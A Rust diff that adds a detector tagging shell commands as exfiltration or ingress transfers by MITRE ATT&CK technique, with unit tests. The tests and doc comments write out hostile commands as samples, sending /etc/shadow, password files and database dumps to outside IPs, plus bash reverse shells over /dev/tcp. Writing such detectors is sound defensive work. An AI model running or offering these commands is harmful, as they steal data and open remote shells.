@@ -941,8 +941,171 @@ pub fn command_technique(line: &str) -> &'static str {
     };
     match COMMAND_RULES.iter().enumerate().find(fires) {
         Some((_, r)) => r.technique,
-        None => ssh_forwarding(line),
+        None => match transfer_technique(line) {
+            "" => ssh_forwarding(line),
+            t => t,
+        },
     }
+}
+
+/// Data a command moves between this host and another, by the direction
+/// its arguments give the transfer: a local file sent to a remote host
+/// (`curl -T file`, `curl --data-binary @file`, `curl -F f=@file`, `wget
+/// --post-file`, `ab -p file`, `nc host port < file`, `scp file
+/// host:dir`, a file's contents redirected into a `/dev/tcp` socket) is
+/// exfiltration (T1048); a remote file fetched here (`scp host:file .`,
+/// `rsync host:dir/ .`) is an ingress tool transfer (T1105). ATT&CK names
+/// both by the direction, whatever the tool. Empty when the line moves no
+/// file, and when the transfer tool is told to run a program instead
+/// (`scp -S prog`, `rsync -e 'sh -c …'`).
+pub fn transfer_technique(line: &str) -> &'static str {
+    for segment in line.split(['\n', ';']).flat_map(|s| s.split("&&")) {
+        if sends_to_socket(segment) {
+            return "T1048";
+        }
+        for part in segment.split('|') {
+            let words: Vec<&str> = part
+                .split_whitespace()
+                .map(|w| w.trim_matches(|c| matches!(c, '\'' | '"' | '(' | ')' | '`')))
+                .collect();
+            let Some(at) = words.iter().position(|w| TRANSFER_TOOLS.contains(&base(w))) else {
+                continue;
+            };
+            let t = transfer_direction(base(words[at]), &words[at + 1..]);
+            if !t.is_empty() {
+                return t;
+            }
+        }
+    }
+    ""
+}
+
+const TRANSFER_TOOLS: &[&str] = &[
+    "curl", "wget", "ab", "nc", "ncat", "netcat", "telnet", "scp", "rsync",
+];
+
+/// The direction one transfer tool's arguments (after its own name) move
+/// a file, as [`transfer_technique`] names it.
+fn transfer_direction(tool: &str, args: &[&str]) -> &'static str {
+    let after = |flags: &[&str]| {
+        args.windows(2)
+            .any(|w| flags.contains(&w[0]) && !w[1].is_empty() && w[1] != "-")
+    };
+    // A file read from disk: `@file` (not `@-`, standard input).
+    let file_ref = |w: &str| w.len() > 1 && w != "@-" && !w.starts_with("@-");
+    let sends = match tool {
+        "curl" => {
+            after(&["-T", "--upload-file"])
+                || args.windows(2).any(|w| {
+                    matches!(
+                        w[0],
+                        "-d" | "--data" | "--data-binary" | "--data-urlencode" | "--data-ascii"
+                    ) && w[1].starts_with('@')
+                        && file_ref(w[1])
+                        || matches!(w[0], "-F" | "--form")
+                            && (w[1].contains("=@") || w[1].contains("=<"))
+                })
+                || args
+                    .iter()
+                    .any(|w| w.starts_with("-d@") && file_ref(&w[2..]) || w.starts_with("-T/"))
+        }
+        "wget" => args
+            .iter()
+            .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file")),
+        "ab" => after(&["-p", "-u"]),
+        "nc" | "ncat" | "netcat" | "telnet" => args.iter().enumerate().any(|(i, a)| {
+            *a == "<" && args.get(i + 1).is_some_and(|b| !b.is_empty())
+                || a.len() > 1 && a.starts_with('<') && !a[1..].starts_with(['&', '<', '>', '('])
+        }),
+        _ => false,
+    };
+    if sends {
+        return "T1048";
+    }
+    if !matches!(tool, "scp" | "rsync") {
+        return "";
+    }
+    // scp and rsync: operands are local paths or `[user@]host:path`; the
+    // last is the destination.
+    let mut operands = Vec::new();
+    let mut i = 0;
+    while i < args.len() {
+        let w = args[i];
+        if matches!(w, "-S" | "-e" | "--rsh") {
+            let prog = args.get(i + 1).copied().unwrap_or("");
+            if tool == "scp" || !prog.starts_with("ssh") {
+                return "";
+            }
+            i += 2;
+            continue;
+        }
+        if let Some(prog) = w
+            .strip_prefix("--rsh=")
+            .or_else(|| w.strip_prefix("-e").filter(|p| !p.is_empty()))
+        {
+            if !prog
+                .trim_matches(|c| c == '\'' || c == '"')
+                .starts_with("ssh")
+            {
+                return "";
+            }
+        } else if tool == "scp"
+            && matches!(
+                w,
+                "-P" | "-i" | "-o" | "-F" | "-c" | "-l" | "-J" | "-D" | "-X"
+            )
+        {
+            i += 1;
+        } else if !w.starts_with('-') && !w.is_empty() {
+            operands.push(w);
+        }
+        i += 1;
+    }
+    let remote = |w: &str| {
+        w.starts_with("rsync://")
+            || w.starts_with("scp://")
+            || w.split_once(':')
+                .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
+    };
+    match operands.split_last() {
+        Some((last, sources)) if !sources.is_empty() => {
+            if remote(last) && sources.iter().any(|s| !remote(s)) {
+                "T1048"
+            } else if !remote(last) && sources.iter().any(|s| remote(s)) {
+                "T1105"
+            } else {
+                ""
+            }
+        }
+        _ => "",
+    }
+}
+
+/// A file's or a command's output redirected into a `/dev/tcp` or
+/// `/dev/udp` socket, without the shell's own input wired to it: data
+/// sent out (`cat /etc/passwd > /dev/tcp/h/80`,
+/// `echo "$(<file)" >/dev/tcp/h/p`), not a command channel
+/// (`bash -i >& /dev/tcp/h/p 0>&1`) or an empty probe of a port
+/// (`echo > /dev/tcp/h/$p`).
+fn sends_to_socket(segment: &str) -> bool {
+    let Some(at) = segment
+        .find("/dev/tcp/")
+        .or_else(|| segment.find("/dev/udp/"))
+    else {
+        return false;
+    };
+    let before = segment[..at].trim_end();
+    let redirected_out = before.ends_with('>')
+        && !before.ends_with("&>")
+        && !before.ends_with(">&")
+        && !before.ends_with("<>");
+    let wired = ["<&", ">&", "&>", "<>", "0>", "exec "]
+        .iter()
+        .any(|w| segment.contains(w));
+    let data = ["$(<", "$(cat ", "`cat ", "cat ", "< /", "<~", "<$", "|"]
+        .iter()
+        .any(|d| before.contains(d));
+    redirected_out && !wired && data
 }
 
 fn ssh_forwarding(line: &str) -> &'static str {
@@ -1236,6 +1399,49 @@ mod tests {
             "false || sh",
         ] {
             assert_eq!(scan_command(line) & pipe, 0, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_transfer_is_named_by_the_direction_its_arguments_give_it() {
+        for line in [
+            "curl -T /etc/passwd ftp://203.0.113.7/",
+            "curl -s -X POST --data-binary @/tmp/e https://198.51.100.7/c",
+            "curl -F 'file=@/var/backups/db.sql' https://203.0.113.7/u",
+            "wget --post-file=/etc/hosts http://203.0.113.7",
+            "ab -p /tmp/loot http://203.0.113.7/",
+            "nc 203.0.113.7 4444 < /etc/shadow",
+            "pg_dumpall > /tmp/all.sql; scp -P 2222 /tmp/all.sql loot@198.51.100.9:/srv/",
+            "sudo rsync -az /var/lib/mysql/ backup@203.0.113.7:dump/",
+            "cat /etc/passwd > /dev/tcp/203.0.113.7/80",
+            "bash -c 'echo -n \"$(</root/notes)\" >/dev/tcp/203.0.113.7/4444'",
+            "tar czf - /home | cat >/dev/tcp/203.0.113.7/9000",
+        ] {
+            assert_eq!(transfer_technique(line), "T1048", "{line}");
+        }
+        for line in [
+            "scp user@203.0.113.7:/srv/tool /tmp/tool",
+            "rsync -e ssh deploy@203.0.113.7:releases/ ./releases/",
+        ] {
+            assert_eq!(transfer_technique(line), "T1105", "{line}");
+        }
+        for line in [
+            // Data piped to standard input, not a file.
+            "env | curl -s -X POST --data-binary @- https://paste.example",
+            // A shell wired to the socket, and an empty probe of a port.
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'",
+            "for p in 22 80; do timeout 1 bash -c \"echo > /dev/tcp/10.0.3.14/$p\"; done",
+            // A transfer tool told to run a program.
+            "scp -S /tmp/x x x:",
+            "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
+            // Copies on this host, and a plain download (a downloader's own
+            // indicator names those).
+            "rsync -a /srv/www/ /var/backups/www/",
+            "curl -fsSL -o /tmp/x https://203.0.113.7/x",
+            "nc -zv 10.0.0.5 5432",
+        ] {
+            assert_eq!(transfer_technique(line), "", "{line}");
         }
     }
 
